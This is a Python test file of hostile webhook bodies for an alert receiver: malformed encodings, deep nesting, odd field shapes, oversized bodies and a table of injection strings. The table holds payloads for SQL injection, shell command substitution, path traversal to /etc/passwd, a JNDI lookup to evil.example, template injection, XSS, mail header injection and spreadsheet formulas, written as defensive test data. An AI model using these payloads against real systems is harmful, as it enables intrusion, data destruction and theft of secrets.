"""Hostile bodies: bytes, JSON, shapes, sizes, injection. All but those that are too large are kept byte for byte."""

# ruff: noqa: E501 - a table, one case a line

from __future__ import annotations

import json
from typing import Any

from receiver.web.body import WEBHOOK_LIMIT_BYTES
from tests.builders.raw_bodies import alert, alertmanager
from tests.hostile.wire import Case, request

PROCESSED, QUARANTINED, EITHER = "processed", "quarantined", ""


def _case(name: str, body: bytes, outcome: str = EITHER) -> Case:
    return Case(name, request(body), (200,), body, outcome)


def _label(name: str, value: Any) -> Case:
    labels = {"alertname": "A", "namespace": "x", "odd": value}
    return _case(f"label that is {name}", alertmanager(alert(labels=labels)))


def _raw_label(name: str, value: bytes, outcome: str = EITHER) -> Case:
    marked = alertmanager(alert(labels={"alertname": "A", "odd": "@@"}))
    return _case(name, marked.replace(b'"@@"', value), outcome)


def _time(name: str, value: Any, field: str = "startsAt") -> Case:
    return _case(f"{field} {name}", alertmanager(alert(**{field: value})))


def _injected(name: str, text: str) -> Case:
    labels = {"alertname": text, "namespace": text, "pod": text, "service": text, "severity": text}
    return _case(
        f"injection of {name}", alertmanager(alert(labels=labels, annotations={"summary": text})), PROCESSED
    )


_GOOD = alertmanager(alert())
_ONE = json.loads(_GOOD)["alerts"][0]

BYTES = (
    _case("empty body", b"", QUARANTINED),
    _case("spaces", b" \r\n\t", QUARANTINED),
    _case("null", b"null", QUARANTINED),
    _case("true", b"true", QUARANTINED),
    _case("a number", b"1", QUARANTINED),
    _case("a text", b'"alert"', QUARANTINED),
    _case("an empty list", b"[]", QUARANTINED),
    _case("byte order mark", b"\xef\xbb\xbf" + _GOOD),
    _case("UTF-16", _GOOD.decode().encode("utf-16"), QUARANTINED),
    _case("UTF-16 without a mark", _GOOD.decode().encode("utf-16-le"), QUARANTINED),
    _case("UTF-32", _GOOD.decode().encode("utf-32"), QUARANTINED),
    _case("invalid UTF-8 throughout", b"\xff\xfe\xfd" * 20, QUARANTINED),
    _raw_label("invalid UTF-8 in a label", b'"\xff"'),
    _raw_label("overlong UTF-8", b'"\xc0\xaf"'),
    _raw_label("surrogate as UTF-8", b'"\xed\xa0\x80"'),
    _raw_label("half a surrogate pair", b'"\\ud800"'),
    _raw_label("surrogates the wrong way round", b'"\\udc00\\ud800"'),
    _raw_label("escaped NUL", b'"a\\u0000b"'),
    _raw_label("raw NUL", b'"a\0b"'),
    _raw_label("raw line end in a text", b'"a\nb"'),
    _raw_label("unknown escape", b'"\\x41"'),
    _raw_label("NaN", b"NaN"),
    _raw_label("Infinity", b"-Infinity"),
    _raw_label("1e999", b"1e999"),
    _raw_label("integer of 5000 digits", b"9" * 5000),
    _raw_label("fraction of 5000 digits", b"0." + b"9" * 5000),
    _raw_label("lists 1000 deep", b"[" * 1000 + b"]" * 1000),
    _raw_label("objects 1000 deep", b'{"a":' * 1000 + b"1" + b"}" * 1000),
    _raw_label("nested 33 deep", b"[" * 33 + b"]" * 33),
    _case("lists 1,000,000 deep", b"[" * 1_000_000, QUARANTINED),
    _case("the same key twice", b'{"alerts":[],' + _GOOD[1:]),
    _case("the same label twice", _GOOD.replace(b'"severity"', b'"alertname":"B","severity"')),
    _case("key __proto__", b'{"__proto__":{"a":1},' + _GOOD[1:]),
    _case("truncated in a text", _GOOD[: len(_GOOD) // 2], QUARANTINED),
    _case("last brace missing", _GOOD[:-1], QUARANTINED),
    _case("more after the end", _GOOD + b"x", QUARANTINED),
    _case("two bodies", _GOOD + _GOOD, QUARANTINED),
    _case("comment", b"/* */" + _GOOD, QUARANTINED),
    _case("comma at the end", _GOOD[:-1] + b",}", QUARANTINED),
    _case("single quotes", b"{'alerts': []}", QUARANTINED),
    _case("form data", b"payload=%7B%7D", QUARANTINED),
    _case("XML with an entity bomb", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', QUARANTINED),
    _case("pickle", b"\x80\x04cos\nsystem\n.", QUARANTINED),
    _case("gzip without saying so", b"\x1f\x8b\x08\0\0\0\0\0", QUARANTINED),
)  # fmt: skip

SHAPES = (
    _case("alerts missing", alertmanager(alerts=...), QUARANTINED),
    _case("alerts null", alertmanager(alerts=None), QUARANTINED),
    _case("alerts an object", alertmanager(alerts={"0": _ONE}), QUARANTINED),
    _case("alerts a text", alertmanager(alerts="firing"), QUARANTINED),
    _case("alerts a number", alertmanager(alerts=7), QUARANTINED),
    _case("alerts empty", alertmanager()),
    _case("alerts nested lists", alertmanager([[alert()]]), QUARANTINED),
    _case("alerts of nulls", alertmanager(None, None), QUARANTINED),
    _case("good alert beside a bad one", alertmanager(alert(), 7), PROCESSED),
    _case("labels missing", alertmanager(alert(labels=...))),
    _case("labels null", alertmanager(alert(labels=None))),
    _case("labels a list", alertmanager(alert(labels=["a"]))),
    _case("labels empty", alertmanager(alert(labels={}))),
    _case("label name empty", alertmanager(alert(labels={"": "a"}))),
    _case("label name of 100 KB", alertmanager(alert(labels={"a" * 100_000: "a"}))),
    _case("annotations a text", alertmanager(alert(annotations="a"))),
    *(_label(*pair) for pair in (("null", None), ("true", True), ("a number", 1), ("a fraction", 0.1), ("a list", [1]),
                                 ("an object", {"a": 1}), ("empty", ""), ("an emoji", "\U0001f525"), ("large", "a" * 70_000))),
    _case("status unknown", alertmanager(alert(status="burning"))),
    _case("status null", alertmanager(alert(status=None))),
    _case("status a list", alertmanager(alert(status=["firing"]))),
    _case("fingerprint missing", alertmanager(alert(fingerprint=...)), PROCESSED),
    _case("fingerprint null", alertmanager(alert(fingerprint=None))),
    _case("fingerprint a number", alertmanager(alert(fingerprint=5))),
    _case("fingerprint of 1 MB", alertmanager(alert(fingerprint="f" * 1_000_000))),
    _case("fingerprint with NUL", alertmanager(alert(fingerprint="f\0"))),
    _time("missing", ...), _time("null", None), _time("a number", 1700000000), _time("empty", ""),
    _time("in year 1", "0001-01-01T00:00:00Z"), _time("in year 9999", "9999-12-31T23:59:59.999999999Z"),
    _time("in year 10000", "10000-01-01T00:00:00Z"), _time("on 30 February", "2026-02-30T00:00:00Z"),
    _time("with +25:00", "2026-01-01T00:00:00+25:00"), _time("year 1 with +14:00", "0001-01-01T00:00:00+14:00"),
    _time("year 9999 with -14:00", "9999-12-31T23:59:59-14:00"), _time("with nanoseconds", "2026-01-01T00:00:00.123456789Z"),
    _time("with 5000 decimals", f"2026-01-01T00:00:00.{'1' * 5000}Z"), _time("in a leap second", "2026-06-30T23:59:60Z"),
    _time("before startsAt", "2020-01-01T00:00:00Z", "endsAt"), _time("a text", "soon", "endsAt"),
    _case("resolved without a beginning", alertmanager(alert(status="resolved", endsAt="2020-01-01T00:00:00Z"))),
    _case("generatorURL javascript", alertmanager(alert(generatorURL="javascript:alert(1)")), PROCESSED),
    _case("generatorURL an object", alertmanager(alert(generatorURL={"a": 1}))),
    _case("version a list", alertmanager(alert(), version=[4])),
    _case("truncatedAlerts negative", alertmanager(alert(), truncatedAlerts=-1)),
    _case("truncatedAlerts huge", alertmanager(alert(), truncatedAlerts=10**30)),
)  # fmt: skip

_TOO_LARGE = b" " * (WEBHOOK_LIMIT_BYTES + 1)
SIZES = (
    _case("annotation of 2 MB", alertmanager(alert(annotations={"summary": "a" * 2_000_000})), PROCESSED),
    _case("100,000 labels", alertmanager(alert(labels={f"l{n}": "v" for n in range(100_000)}))),
    _case("5,000 alerts", alertmanager(*(alert(fingerprint=f"{n:016x}") for n in range(5_000))), PROCESSED),
    _case("body of 8 MiB", _GOOD + b" " * (WEBHOOK_LIMIT_BYTES - len(_GOOD)), PROCESSED),
    Case("body of 8 MiB and a byte", request(_TOO_LARGE), (413,)),
    Case("announced as 8 MiB and a byte", request(b"", f"Content-Length: {WEBHOOK_LIMIT_BYTES + 1}", length=False), (413,)),
    Case("announced as an exabyte", request(b"", f"Content-Length: {10**18}", length=False), (413,)),
    Case("chunks of 8 MiB and a byte", request(
        b"%x\r\n%s\r\n0\r\n\r\n" % (len(_TOO_LARGE), _TOO_LARGE), "Transfer-Encoding: chunked", length=False), (413,)),
)  # fmt: skip

# What text of an alert would do if somebody took it for more than text. Followed to its ends: test_injection.py.
INJECTED: dict[str, str] = {
    "SQL": "'; DROP TABLE incidents; -- ",
    "SQL by backslash": "\\'; DELETE FROM alerts; #",
    "a bound parameter": "%s %(a)s :a ?",
    "LIKE": "%_\\%",
    "log lines": 'a\n{"level":"error","event":"forged.line"}\r\nb',
    "terminal escapes": "\x1b[2J\x1b]0;title\x07",
    "a Slack mention": "<!channel> <@U123> <https://evil.example|ok>",
    "mail headers": "a\r\nBcc: victim@evil.example\r\n\r\nbody",
    "Jinja": "{{ 7*7 }}{% for a in [].__class__.__mro__ %}{{ a }}{% endfor %}",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "PromQL": '"} or vector(1) or up{a="',
    "a path": "../../etc/passwd",
    "a Kubernetes path": "../../../secrets?watch=1",
    "a shell command": "$(touch /tmp/owned); `id` | sh",
    "a format string": "{0.__class__} %n%n ${jndi:ldap://evil.example}",
    "a spreadsheet formula": "=cmd|'/c calc'!A1",
    "right-to-left text": "\u202egnp.exe\u2066",
    "an empty text": "",
}
INJECTIONS = tuple(_injected(*pair) for pair in INJECTED.items())

ALL = (*BYTES, *SHAPES, *SIZES, *INJECTIONS)
